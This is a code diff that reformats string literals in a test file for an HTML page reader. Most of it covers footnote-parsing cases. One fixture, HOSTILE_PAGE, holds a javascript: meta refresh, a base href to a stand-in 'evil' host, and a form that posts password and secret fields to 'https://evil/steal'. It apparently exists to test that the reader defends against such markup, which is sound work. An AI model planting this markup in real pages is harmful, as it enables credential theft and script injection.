@@ -43,7 +43,8 @@ Account: @example</pre>
 </body>
 </html>`;
 
-const HOSTILE_PAGE = `<!DOCTYPE html>
+const HOSTILE_PAGE =
+  `<!DOCTYPE html>
 <html><head>
   <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
   <base href="https://evil/">
@@ -62,7 +63,8 @@ const HOSTILE_PAGE = `<!DOCTYPE html>
   <noscript>alert</noscript>
   <template><p>alert</p></template>
   <!-- alert(1) -->
-  <form action="https://evil/steal"><label>Password <input value="secret"></label><textarea>secret</textarea><select><option>secret</option></select><button>secret</button></form>
+  <form action="https://evil/steal"><label>Password <input value="secret"></label>` +
+  `<textarea>secret</textarea><select><option>secret</option></select><button>secret</button></form>
   <math><mi>alert</mi></math>
 </body></html>`;
 
@@ -182,13 +184,20 @@ describe('reading a web page', () => {
   it.each([
     {
       style: 'remark-gfm',
-      html: `<p>Staff must comply.<sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">1</a></sup></p>
+      html:
+        `<p>Staff must comply.<sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">1` +
+        `</a></sup></p>
         <section data-footnotes class="footnotes"><h2 class="sr-only" id="footnote-label">Footnotes</h2>
-        <ol><li id="user-content-fn-1"><p>The Hatch Act applies. <a href="#user-content-fnref-1" data-footnote-backref aria-label="Back to reference 1" class="data-footnote-backref">↩</a></p></li></ol></section>`,
+        <ol><li id="user-content-fn-1"><p>The Hatch Act applies. ` +
+        `<a href="#user-content-fnref-1" data-footnote-backref aria-label="Back to reference 1" class="data-footnote-backref">↩` +
+        `</a></p></li></ol></section>`,
     },
     {
       style: 'simple remark',
-      html: '<p>Staff must comply.<sup><a href="#fn-1" id="fnref-1">1</a></sup></p><section class="footnotes"><ol><li id="fn-1">The Hatch Act applies. <a href="#fnref-1">↩</a></li></ol></section>',
+      html:
+        '<p>Staff must comply.<sup><a href="#fn-1" id="fnref-1">1</a></sup></p>' +
+        '<section class="footnotes"><ol><li id="fn-1">The Hatch Act applies. <a href="#fnref-1">↩' +
+        '</a></li></ol></section>',
     },
     {
       style: 'pandoc',
@@ -198,7 +207,9 @@ describe('reading a web page', () => {
     },
     {
       style: 'mammoth (Word)',
-      html: '<p>Staff must comply.<sup><a href="#footnote-1" id="footnote-ref-1">[1]</a></sup></p><ol><li id="footnote-1"><p>The Hatch Act applies. <a href="#footnote-ref-1">↑</a></p></li></ol>',
+      html:
+        '<p>Staff must comply.<sup><a href="#footnote-1" id="footnote-ref-1">[1]</a></sup></p><ol>' +
+        '<li id="footnote-1"><p>The Hatch Act applies. <a href="#footnote-ref-1">↑</a></p></li></ol>',
     },
   ])('turns $style footnotes into a [1] marker and a labelled note without its back-link', async ({ html }) => {
     const parsed = await parseWith(parseHtml, 'notes.html', html);
@@ -215,7 +226,8 @@ describe('reading a web page', () => {
       '<ul><li>Keep records<ul><li>for seven years</li></ul></li></ul>',
       '<table><tr><td><p>Record</p></td><td><p>Years</p></td></tr><tr><td><p>Email</p></td><td><p>7</p></td></tr></table>',
       '<p>Endnote here.<sup><a href="#endnote-1" id="endnote-ref-1">[2]</a></sup></p>',
-      '<ol><li id="footnote-1"><p>Including contractors. <a href="#footnote-ref-1">↑</a></p></li><li id="endnote-1"><p>See the schedule. <a href="#endnote-ref-1">↑</a></p></li></ol>',
+      '<ol><li id="footnote-1"><p>Including contractors. <a href="#footnote-ref-1">↑</a></p>' +
+        '</li><li id="endnote-1"><p>See the schedule. <a href="#endnote-ref-1">↑</a></p></li></ol>',
     ].join('');
     const { blocks, warnings } = blocksFromHast(fromHtml(mammothHtml, { fragment: true }), {
       fileName: 'records.docx',
